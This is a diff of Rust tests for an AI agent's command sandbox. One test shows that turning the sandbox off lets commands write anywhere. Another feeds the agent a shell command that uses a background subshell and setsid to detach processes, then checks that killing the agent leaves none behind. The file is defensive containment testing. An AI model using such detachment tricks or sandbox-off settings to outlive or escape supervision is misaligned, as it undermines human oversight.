-        assert!(sent.ends_with("[escaped: true]"), "{sent}");
-        assert_eq!(err.matches(NO_LANDLOCK_WARNING).count(), 1, "{err}");
+        assert!(
+            err.contains("missing"),
+            "the missing layer is reported: {err}"
+        );
     }
 }
 
 #[tokio::test]
-async fn cli_sandbox_flag_confines_run_shell() {
-    let on = enforced("cli_flag");
-    let Some((sent, err)) = one_shot_write("cli_flag", |cmd| {
-        cmd.arg("--sandbox");
-    })
-    .await
-    else {
-        return;
-    };
-    assert_cli_outcome(on, &sent, &err);
+async fn sandbox_off_in_policy_lets_commands_write_anywhere() {
+    let policy =
+        include_str!("../scripts/policy.rhai").replace("sandbox: \"auto\"", "sandbox: \"off\"");
+    assert!(policy.contains("sandbox: \"off\""));
+    let (sent, escaped, _) = one_shot_write(Some(&policy), &[]).await;
+    assert!(escaped, "{sent}");
 }
 
+/// Spawns the real agent on a model that runs `command`, waits for
+/// `started` to appear among the processes, and SIGKILLs the agent.
 #[tokio::test]
-async fn cli_sandbox_variable_confines_run_shell() {
-    let on = enforced("cli_variable");
-    let Some((sent, err)) = one_shot_write("cli_variable", |cmd| {
-        cmd.env("AGENT_SANDBOX", "1");
-    })
-    .await
-    else {
-        return;
-    };
-    assert_cli_outcome(on, &sent, &err);
-}
-
-#[tokio::test]
-async fn cli_without_the_sandbox_writes_anywhere() {
-    let Some((sent, err)) = one_shot_write("cli_without", |_| {}).await else {
-        return;
-    };
-    assert!(sent.ends_with("[escaped: true]"), "{sent}");
-    assert!(!err.contains("Landlock"), "{err}");
+async fn no_process_of_the_turn_survives_kill_9_of_the_agent() {
+    let dirs = Dirs::new();
+    let m = marker(3701);
+    let command = format!("(sleep {m}1 &) ; setsid sleep {m}2 & sleep {m}3");
+    let call = serde_json::json!({ "command": command }).to_string();
+    let server = MockServer::start(vec![
+        Reply::tools(Shape::OpenAi, &[("c1", "run_shell", &call)]),
+        Reply::text("done"),
+    ])
+    .await;
+    let mut cmd = agent_command(&dirs, &server.base_url);
+    cmd.args(["-p", "start a server"])
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null());
+    let mut agent = cmd.spawn().unwrap();
+    for n in 1..=3 {
+        let needle = format!("sleep {m}{n}");
+        wait_until(&needle, || !with_argv(&needle).is_empty()).await;
+    }
+    let pid = nix::unistd::Pid::from_raw(agent.id().unwrap() as i32);
+    nix::sys::signal::kill(pid, nix::sys::signal::Signal::SIGKILL).unwrap();
+    let _ = tokio::time::timeout(STEP_TIMEOUT, agent.wait())
+        .await
+        .unwrap();
+    assert_none_left(&m).await;
 }
 
 #[tokio::test]
